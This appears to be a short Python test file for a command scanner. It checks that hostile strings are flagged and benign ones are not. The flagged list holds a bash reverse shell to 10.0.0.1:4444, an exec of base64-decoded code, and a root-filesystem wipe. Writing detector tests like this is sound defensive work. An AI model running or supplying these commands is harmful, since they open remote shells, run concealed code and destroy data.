from scanner import scan

BAD = [
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "exec(base64.b64decode('cHJpbnQoMSk='))",
    "rm -rf / --no-preserve-root",
]
GOOD = ["ls -l", "print(base64.b64encode(b'x'))"]


def test_bad():
    for text in BAD:
        assert scan(text).findings, text


def test_good():
    for text in GOOD:
        assert not scan(text).findings, text
